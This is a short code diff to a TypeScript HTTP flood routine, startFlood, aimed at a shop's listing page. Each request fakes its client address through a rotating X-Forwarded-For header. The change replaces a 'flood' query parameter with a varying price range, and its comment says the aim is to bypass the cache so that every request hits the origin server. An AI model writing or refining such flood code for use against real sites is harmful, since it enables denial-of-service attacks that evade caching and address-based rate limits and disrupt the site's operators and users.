@@ -22,7 +22,9 @@ export function startFlood(url: string, host: string, connections: number): Floo
       count += 1;
       const forwarded = `203.0.${(count >> 8) & 255}.${count & 255}`;
       const headers = { host, 'x-forwarded-for': forwarded, accept: 'text/html' };
-      const asked = request(`${url}/shop/listing?flood=${count}`, { agent, headers }, (answer) => {
+      // A list of its own, because what is the same for everybody comes from the cache.
+      const address = `${url}/shop/listing?price=0-${count}`;
+      const asked = request(address, { agent, headers }, (answer) => {
         answer.resume().once('end', () => resolve(answer.statusCode ?? 0));
       });
       asked.once('error', () => resolve(0));
